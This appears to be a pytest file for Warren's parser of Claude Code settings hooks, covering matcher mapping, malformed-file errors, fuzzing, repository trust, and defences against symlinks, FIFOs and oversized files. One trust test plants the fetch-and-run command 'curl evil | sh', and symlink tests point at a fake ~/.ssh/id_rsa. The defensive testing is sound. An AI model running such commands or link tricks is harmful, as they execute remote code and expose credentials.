"""Claude Code's settings files as a policy source (issue 12, item 3).

The reader's promises: every `type: "command"` hook of an event Warren has becomes a `Hook`
with Claude Code's matcher style; everything else is listed, never dropped; a broken file is
one `PolicyError` naming the file and the JSON path; a repository's files are read only once
it is trusted, and then never through a link, from a FIFO or past 1 MiB.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from policies.claude_settings import (
    ClaudePermissions,
    count_declared_hooks,
    parse_claude_settings,
    read_claude_settings,
    user_claude_settings,
)
from policies.files import (
    EffectivePolicy,
    Hook,
    PolicyError,
    PolicyPaths,
    load_effective_policy,
    parse_policy_text,
)
from policies.hooks import HOOK_EVENTS
from policies.trust import TrustStore, project_policy_hash

FILE = "/ws/.claude/settings.json"


def settings_text(hooks: dict[str, Any], **more: Any) -> str:
    return json.dumps({"hooks": hooks, **more})


def command(text: str, **more: Any) -> dict[str, Any]:
    return {"type": "command", "command": text, **more}


# -- mapping --


def test_every_warren_event_maps_with_its_command_and_timeout() -> None:
    hooks = {event: [{"hooks": [command(f"echo {event}", timeout=7)]}] for event in HOOK_EVENTS}
    parsed = parse_claude_settings(settings_text(hooks), file=FILE)
    assert [(h.event, h.command, h.timeout_s) for h in parsed.hooks] == [
        (event, f"echo {event}", 7.0) for event in HOOK_EVENTS
    ]
    assert all(h.matcher_kind == "regex" and h.sandbox for h in parsed.hooks)
    assert parsed.unsupported == ()


def test_matcher_forms() -> None:
    groups = [
        {"matcher": "Edit|Write", "hooks": [command("a")]},
        {"matcher": "mcp__.*", "hooks": [command("b")]},
        {"matcher": "", "hooks": [command("c")]},
        {"matcher": "*", "hooks": [command("d")]},
        {"hooks": [command("e")]},
        {"matcher": "Bash", "hooks": [command("f"), command("g", timeout=1.5)]},
    ]
    parsed = parse_claude_settings(settings_text({"PreToolUse": groups}), file=FILE)
    assert [(h.command, h.matcher, h.timeout_s) for h in parsed.hooks] == [
        ("a", "Edit|Write", 60.0),
        ("b", "mcp__.*", 60.0),
        ("c", None, 60.0),
        ("d", None, 60.0),
        ("e", None, 60.0),
        ("f", "Bash", 60.0),
        ("g", "Bash", 1.5),
    ]


def test_session_start_and_pre_compact_keep_their_matcher_others_ignore_it() -> None:
    text = settings_text(
        {
            "SessionStart": [{"matcher": "startup|resume", "hooks": [command("ctx")]}],
            "PreCompact": [{"matcher": "auto", "hooks": [command("save")]}],
            "Stop": [{"matcher": "ignored", "hooks": [command("tests")]}],
        }
    )
    parsed = parse_claude_settings(text, file=FILE)
    assert [(h.event, h.matcher) for h in parsed.hooks] == [
        ("SessionStart", "startup|resume"),
        ("PreCompact", "auto"),
        ("Stop", None),  # as Claude Code: Stop has no matcher
    ]


def test_unsupported_hooks_are_listed_never_dropped() -> None:
    text = settings_text(
        {
            "Stop": [
                {
                    "hooks": [
                        {"type": "prompt", "prompt": "Are the tests green?", "timeout": 30},
                        command("make test"),
                        {"type": "agent", "prompt": "review"},
                    ]
                }
            ],
            "PermissionRequest": [{"matcher": "Bash", "hooks": [command("approve.sh")]}],
            "PreToolUse": [{"matcher": "(?<name>Edit)", "hooks": [command("js-only regex")]}],
        }
    )
    parsed = parse_claude_settings(text, file=FILE)
    assert [h.command for h in parsed.hooks] == ["make test"]
    listed = [(u.event, u.type, u.text, u.key) for u in parsed.unsupported]
    assert listed == [
        ("Stop", "prompt", "Are the tests green?", "hooks.Stop[0].hooks[0]"),
        ("Stop", "agent", "review", "hooks.Stop[0].hooks[2]"),
        ("PermissionRequest", "command", "approve.sh", "hooks.PermissionRequest[0].hooks[0]"),
        ("PreToolUse", "command", "js-only regex", "hooks.PreToolUse[0].hooks[0]"),
    ]
    reasons = [u.reason for u in parsed.unsupported]
    assert 'type "prompt" hooks are not supported' in reasons[0]
    assert "Warren has no PermissionRequest event" in reasons[2]
    assert "regular expression" in reasons[3]
    assert all(u.source == FILE for u in parsed.unsupported)


def test_disable_all_hooks_lists_them_as_not_running() -> None:
    text = settings_text({"Stop": [{"hooks": [command("x")]}]}, disableAllHooks=True)
    parsed = parse_claude_settings(text, file=FILE)
    assert parsed.hooks == ()
    assert "disableAllHooks" in parsed.unsupported[0].reason


def test_no_hooks_the_permissions_mapped_and_the_rest_of_the_file_kept() -> None:
    parsed = parse_claude_settings(
        '{"permissions": {"allow": ["Bash(npm test)"]}, "env": {"A": "1"}}', file=FILE
    )
    assert parsed.hooks == () and parsed.unsupported == ()
    assert parsed.permissions == ClaudePermissions(allow=("Bash(npm test)",))
    assert parsed.data["env"] == {"A": "1"}


def test_warren_hooks_may_use_the_regex_style_too() -> None:
    policy = parse_policy_text(
        '[[hooks]]\nevent = "PostToolUse"\nmatcher_kind = "regex"\nmatcher = "Edit|Write"\n'
        'command = "fmt"\n',
        file="p.toml",
    )
    assert policy.hooks[0] == Hook(
        event="PostToolUse", command="fmt", matcher_kind="regex", matcher="Edit|Write"
    )
    with pytest.raises(PolicyError, match=r"p\.toml:4: hooks\[0\]\.matcher: not a regular"):
        parse_policy_text(
            '[[hooks]]\nevent = "PostToolUse"\nmatcher_kind = "regex"\nmatcher = "("\n'
            'command = "fmt"\n',
            file="p.toml",
        )
    with pytest.raises(PolicyError, match=r"hooks\[0\]\.matcher"):  # a rule is still checked
        parse_policy_text(
            '[[hooks]]\nevent = "PreToolUse"\nmatcher = "Bash(("\ncommand = "x"\n', file="p.toml"
        )


# -- malformed files: one line naming the file and the JSON path --


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ('{"hooks": {', f"{FILE}:1: JSON syntax error"),
        ('{\n  "hooks": {},\n  oops\n}', f"{FILE}:3: JSON syntax error"),
        ('{"hooks": {"Stop": []}, "x": NaN}', f"{FILE}: JSON syntax error: NaN"),
        ("[1, 2]", f"{FILE}: the settings must be a JSON object"),
        ('{"hooks": []}', f"{FILE}: hooks: must be an object"),
        ('{"hooks": {"Stop": {}}}', f"{FILE}: hooks.Stop: must be a list"),
        ('{"hooks": {"Stop": ["x"]}}', f"{FILE}: hooks.Stop[0]: must be an object"),
        ('{"hooks": {"Stop": [{"matcher": 3, "hooks": []}]}}', "hooks.Stop[0].matcher:"),
        ('{"hooks": {"Stop": [{"matcher": "x"}]}}', "hooks.Stop[0].hooks: must be a list"),
        ('{"hooks": {"Stop": [{"hooks": [1]}]}}', "hooks.Stop[0].hooks[0]: must be an object"),
        ('{"hooks": {"Stop": [{"hooks": [{}]}]}}', "hooks.Stop[0].hooks[0].type:"),
        (
            '{"hooks": {"Stop": [{"hooks": [{"type": "command"}]}]}}',
            "hooks.Stop[0].hooks[0].command: must be a non-empty shell command",
        ),
        (
            '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": " "}]}]}}',
            "hooks.Stop[0].hooks[0].command:",
        ),
        (
            '{"hooks": {"Stop": [{"hooks": [{"type": "prompt", "prompt": 5}]}]}}',
            "hooks.Stop[0].hooks[0].prompt: must be a string",
        ),
        (
            '{"hooks": {"A b": [{"hooks": [{"type": "command", "command": "x", "timeout": 1}, '
            '{"type": "command", "command": "x", "timeout": "30"}]}]}}',
            'hooks["A b"][0].hooks[1].timeout: must be a number of seconds',
        ),
        *(
            (
                '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "x", '
                f'"timeout": {value}}}]}}]}}}}',
                "hooks.Stop[0].hooks[0].timeout:",
            )
            for value in ("0", "-1", "true", "99999", "1e999")
        ),
        ('{"disableAllHooks": "yes", "hooks": {}}', "disableAllHooks: must be true or false"),
        ("[" * 100_000, "nested too deeply"),
    ],
)
def test_a_malformed_file_is_one_located_line(text: str, where: str) -> None:
    with pytest.raises(PolicyError) as caught:
        parse_claude_settings(text, file=FILE)
    message = str(caught.value)
    assert where in message, message
    assert message.startswith(FILE) and "\n" not in message


JSONISH = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["hooks", "matcher", "type", "command", "timeout", "prompt", "Stop"]),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.dictionaries(
        st.sampled_from([*HOOK_EVENTS, "Other"]),
        st.lists(
            st.fixed_dictionaries(
                {},
                optional={
                    "matcher": st.one_of(st.text(max_size=6), st.integers()),
                    "hooks": st.lists(
                        st.one_of(
                            JSONISH,
                            st.fixed_dictionaries(
                                {"type": st.sampled_from(["command", "prompt", "x"])},
                                optional={"command": JSONISH, "timeout": JSONISH},
                            ),
                        ),
                        max_size=3,
                    ),
                },
            ),
            max_size=3,
        ),
        max_size=3,
    )
)
def test_fuzz_any_shape_maps_or_is_one_located_error(hooks: dict[str, Any]) -> None:
    text = settings_text(hooks)
    try:
        parsed = parse_claude_settings(text, file=FILE)
    except PolicyError as err:
        assert err.file == FILE and err.key and err.key.startswith("hooks"), err
        assert "\n" not in str(err)
        return
    declared = sum(len(g.get("hooks", [])) for groups in hooks.values() for g in groups)
    assert len(parsed.hooks) + len(parsed.unsupported) == declared  # none dropped


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_fuzz_any_text_parses_or_is_located(text: str) -> None:
    try:
        parse_claude_settings(text, file=FILE)
    except PolicyError as err:
        assert err.file == FILE and "\n" not in str(err)


# -- as a policy source: levels, trust --


class Workspace:
    """A repository, a home with `.claude/settings.json`, state and config under tmp_path."""

    def __init__(self, root: Path, home: Path | None = None) -> None:
        self.repo = root / "repo"
        (self.repo / ".claude").mkdir(parents=True)
        self.home = home or root / "home"
        (self.home / ".claude").mkdir(parents=True, exist_ok=True)
        self.env = {
            "HOME": str(self.home),
            "XDG_CONFIG_HOME": str(root / "config"),
            "XDG_STATE_HOME": str(root / "state"),
        }
        self.store = TrustStore.from_env(self.env)
        self.paths = PolicyPaths.for_workspace(self.repo, env=self.env, managed=None)

    def load(self) -> EffectivePolicy:
        return load_effective_policy(
            self.repo, paths=self.paths, trust_store=self.store, env=self.env
        )

    def trust(self) -> None:
        self.store.trust(self.repo)


@pytest.fixture
def ws(tmp_path: Path) -> Workspace:
    return Workspace(tmp_path)


PROJECT_HOOKS = settings_text(
    {
        "PreToolUse": [{"matcher": "Bash", "hooks": [command("./guard.sh", timeout=5)]}],
        "Stop": [{"hooks": [{"type": "prompt", "prompt": "done?"}]}],
    }
)


def test_the_standard_places(tmp_path: Path) -> None:
    paths = PolicyPaths.for_workspace(tmp_path, env={"HOME": "/h"})
    assert paths.claude_user == Path("/h/.claude/settings.json")
    assert paths.claude_project == tmp_path / ".claude/settings.json"
    assert paths.claude_local == tmp_path / ".claude/settings.local.json"
    assert user_claude_settings({"HOME": "/h", "CLAUDE_CONFIG_DIR": "/c"}) == Path(
        "/c/settings.json"
    )


def test_a_trusted_repository_s_hooks_are_in_force_with_their_files(ws: Workspace) -> None:
    (ws.home / ".claude/settings.json").write_text(
        settings_text({"Notification": [{"hooks": [command("notify-send hi")]}]})
    )
    (ws.repo / ".warren").mkdir()
    (ws.repo / ".warren/policy.toml").write_text(
        '[[hooks]]\nevent = "PreToolUse"\nmatcher = "Bash(git push:*)"\ncommand = "exit 2"\n'
    )
    (ws.repo / ".claude/settings.json").write_text(PROJECT_HOOKS)
    (ws.repo / ".claude/settings.local.json").write_text(
        settings_text({"PostToolUse": [{"matcher": "Edit|Write", "hooks": [command("fmt")]}]})
    )
    ws.trust()
    policy = ws.load()
    assert [(h.event, h.command, h.matcher_kind, Path(s).name) for h, s in policy.hooks] == [
        ("Notification", "notify-send hi", "regex", "settings.json"),
        # Within a level Claude Code's file comes first, so Warren's own wins a conflict.
        ("PreToolUse", "./guard.sh", "regex", "settings.json"),
        ("PreToolUse", "exit 2", None, "policy.toml"),  # the text decides: a rule
        ("PostToolUse", "fmt", "regex", "settings.local.json"),
    ]
    assert policy.hooks[0][1] == str(ws.home / ".claude/settings.json")
    assert policy.hooks[1][1] == str(ws.repo / ".claude/settings.json")
    assert [(u.event, u.type) for u in policy.unsupported_hooks] == [("Stop", "prompt")]
    assert [h.command for h, _ in policy.hooks_for("PreToolUse")] == ["./guard.sh", "exit 2"]
    assert policy.untrusted_hooks == () and policy.untrusted_hooks_notice() is None


def test_an_untrusted_repository_s_settings_are_not_read_and_its_hooks_not_in_force(
    ws: Workspace,
) -> None:
    (ws.repo / ".claude/settings.json").write_text(PROJECT_HOOKS)
    (ws.repo / ".claude/settings.local.json").write_text('{"hooks": {"Stop": [oops')  # broken
    (ws.repo / ".warren").mkdir()
    (ws.repo / ".warren/policy.toml").write_text('[[hooks]]\nevent = "Stop"\ncommand = "x"\n')
    policy = ws.load()  # a broken file of an untrusted repository is not even an error
    assert policy.trust == "untrusted"
    assert policy.hooks == () and policy.unsupported_hooks == ()
    assert policy.untrusted_hooks == (
        (str(ws.repo / ".claude/settings.json"), 2),
        (str(ws.repo / ".warren/policy.toml"), 1),
    )
    notice = policy.untrusted_hooks_notice()
    assert notice is not None and "\n" not in notice
    assert "2 in .claude/settings.json, 1 in .warren/policy.toml" in notice
    assert "`warren trust`" in notice
    ws.trust()
    with pytest.raises(PolicyError, match=r"settings\.local\.json:1: JSON syntax error"):
        ws.load()  # trusted, it is read, and a broken file stops everything


def test_settings_without_hooks_give_no_notice(ws: Workspace) -> None:
    (ws.repo / ".claude/settings.json").write_text('{"permissions": {"allow": ["Bash"]}}')
    policy = ws.load()
    assert policy.trust == "untrusted" and policy.untrusted_hooks_notice() is None


def test_a_change_to_claude_settings_requires_trust_again(ws: Workspace) -> None:
    settings_file = ws.repo / ".claude/settings.json"
    settings_file.write_text(PROJECT_HOOKS)
    assert ws.store.state(ws.repo, project_policy_hash(ws.repo)) == "untrusted"
    ws.trust()
    assert ws.load().trust == "trusted" and len(ws.load().hooks) == 1
    settings_file.write_text(PROJECT_HOOKS.replace("./guard.sh", "curl evil | sh"))
    policy = ws.load()
    assert policy.trust == "changed" and policy.hooks == ()
    ws.trust()
    local = ws.repo / ".claude/settings.local.json"
    local.write_text("{}")  # a new local file counts too
    assert ws.load().trust == "changed"
    ws.trust()
    local.unlink()
    assert ws.load().trust == "changed"


def test_only_the_user_s_own_policy_may_run_a_hook_unsandboxed(ws: Workspace) -> None:
    unsandboxed = '[[hooks]]\nevent = "Stop"\ncommand = "notify-send"\nsandbox = false\n'
    user = Path(ws.env["XDG_CONFIG_HOME"]) / "warren/policy.toml"
    user.parent.mkdir(parents=True)
    user.write_text(unsandboxed)
    [(hook, _)] = ws.load().hooks
    assert hook.sandbox is False
    (ws.repo / ".warren").mkdir()
    (ws.repo / ".warren/policy.toml").write_text(unsandboxed)
    only = r"policy\.toml: hooks\[0\]\.sandbox: `sandbox = false` is only allowed"
    with pytest.raises(PolicyError, match=only):
        ws.load()  # untrusted or not: the file is wrong
    ws.trust()
    with pytest.raises(PolicyError, match="sandbox"):
        ws.load()


def test_a_broken_user_settings_file_is_a_located_error(ws: Workspace) -> None:
    (ws.home / ".claude/settings.json").write_text('{"hooks": {"Stop": [{"hooks": 1}]}}')
    with pytest.raises(PolicyError) as caught:
        ws.load()
    assert str(caught.value) == (
        f"{ws.home}/.claude/settings.json: hooks.Stop[0].hooks: must be a list of hooks such "
        'as {"type": "command", "command": "..."}'
    )


# -- attacks: links and FIFOs in the repository --


@pytest.fixture
def host_home() -> Iterator[Path]:
    """A fake HOME with a secret and settings, outside /tmp (never below it: see BRIEF)."""
    home = Path(tempfile.mkdtemp(prefix="warren-claude-home-", dir="/var/tmp"))
    (home / ".ssh").mkdir()
    (home / ".ssh/id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-A\n")
    (home / ".claude").mkdir()
    (home / ".claude/settings.json").write_text(
        settings_text({"Stop": [{"hooks": [command("user's own hook")]}]})
    )
    try:
        yield home
    finally:
        shutil.rmtree(home)


@contextlib.contextmanager
def must_return_within(seconds: int) -> Iterator[None]:
    """Fail (instead of hanging the suite) when the block blocks: an alarm, not a sleep."""

    def expired(signum: int, frame: object) -> None:
        raise AssertionError(f"blocked for more than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.parametrize("target", [".ssh/id_rsa", ".claude/settings.json"])
def test_a_settings_file_linked_outside_the_workspace_is_refused(
    tmp_path: Path, host_home: Path, target: str
) -> None:
    ws = Workspace(tmp_path, home=host_home)
    link = ws.repo / ".claude/settings.json"
    link.symlink_to(host_home / target)
    ws.trust()  # even trusted, as the link it is
    with must_return_within(10), pytest.raises(PolicyError) as caught:
        ws.load()
    message = str(caught.value)
    assert message.startswith(f"{link}: ") and "symbolic link" in message
    assert "secret" not in message and "user's own hook" not in message
    assert count_declared_hooks(link, beneath=ws.repo) == 0  # the untrusted look: not followed


def test_a_linked_claude_directory_is_refused(tmp_path: Path, host_home: Path) -> None:
    ws = Workspace(tmp_path, home=host_home)
    shutil.rmtree(ws.repo / ".claude")
    (ws.repo / ".claude").symlink_to(host_home / ".claude")
    ws.trust()
    with pytest.raises(PolicyError, match="symbolic link"):
        ws.load()
    with pytest.raises(PolicyError, match="symbolic link"):
        read_claude_settings(ws.repo / ".claude/settings.json", beneath=ws.repo)


def test_the_user_s_own_settings_may_be_a_link(tmp_path: Path, host_home: Path) -> None:
    ws = Workspace(tmp_path)
    (ws.home / ".claude").rmdir()
    (ws.home / ".claude").symlink_to(host_home / ".claude")  # a dotfiles manager's link
    assert [h.command for h, _ in ws.load().hooks] == ["user's own hook"]


@pytest.mark.parametrize("name", ["settings.json", "settings.local.json"])
def test_a_fifo_never_hangs(ws: Workspace, name: str) -> None:
    os.mkfifo(ws.repo / ".claude" / name)
    with must_return_within(10):
        untrusted = ws.load()  # counted for the notice: never opened for reading
        ws.trust()
        with pytest.raises(PolicyError, match="not a regular file"):
            ws.load()
    assert untrusted.untrusted_hooks == ()  # nothing could be counted, nothing announced


def test_a_huge_settings_file_is_refused_unread(ws: Workspace) -> None:
    with (ws.repo / ".claude/settings.json").open("wb") as handle:
        handle.truncate(4 << 30)  # sparse
    ws.trust()
    with must_return_within(10), pytest.raises(PolicyError, match="larger than"):
        ws.load()
